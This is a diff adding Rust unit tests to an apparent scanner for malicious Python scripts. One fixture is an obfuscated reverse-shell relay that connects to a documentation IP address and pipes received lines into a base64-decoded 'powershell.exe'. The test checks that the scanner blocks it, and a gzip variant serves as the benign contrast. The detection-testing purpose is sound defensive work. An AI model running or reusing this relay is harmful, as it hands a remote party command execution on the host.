@@ -677,3 +677,59 @@ print(c.recv(64))
     let a = run(mail);
     assert!(!rules(&a).contains(&"MB925"), "{:?}", a.findings);
 }
+
+/// A decoder of the script's own folded inside a parameter's default
+/// (the substituted parameter's cell asked while it is being set) must
+/// not stop the assessment.
+#[test]
+fn decoder_in_a_parameter_default_is_folded_without_stopping() {
+    let nested = r#"import os
+_up = lambda s: s.upper()
+def greet(cmd=_up("echo hello")):
+    os.system(cmd)
+greet()
+"#;
+    let a = run(nested);
+    assert!(a.verdict <= Verdict::High, "{:?}", a.findings);
+}
+
+/// A shell named by a parameter every caller fills with the same decoded
+/// value, fed lines from a connection, is a shell a remote party types
+/// into (ec76111: MEDIUM).
+#[test]
+fn shell_named_by_a_parameter_fed_from_a_connection() {
+    let relay = r#"import asyncio, base64
+class Link:
+    def __init__(self, program):
+        self.program = program
+    async def go(self):
+        reader, writer = await asyncio.open_connection("198.51.100.77", 443)
+        self.proc = await asyncio.create_subprocess_exec(
+            self.program, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)
+        while True:
+            self.proc.stdin.write(await reader.readline())
+asyncio.run(Link(base64.b64decode("cG93ZXJzaGVsbC5leGU=").decode()).go())
+"#;
+    let a = run(relay);
+    assert!(rules(&a).contains(&"MB901"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// The same relay feeding a compressor, not a shell, runs no commands.
+#[test]
+fn compressor_fed_from_a_connection_is_no_shell() {
+    let relay = r#"import asyncio, base64
+class Link:
+    def __init__(self, program):
+        self.program = program
+    async def go(self):
+        reader, writer = await asyncio.open_connection("198.51.100.77", 443)
+        self.proc = await asyncio.create_subprocess_exec(
+            self.program, "-c", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)
+        while True:
+            self.proc.stdin.write(await reader.readline())
+asyncio.run(Link(base64.b64decode("Z3ppcA==").decode()).go())
+"#;
+    let a = run(relay);
+    assert!(!rules(&a).contains(&"MB901"), "{:?}", a.findings);
+}
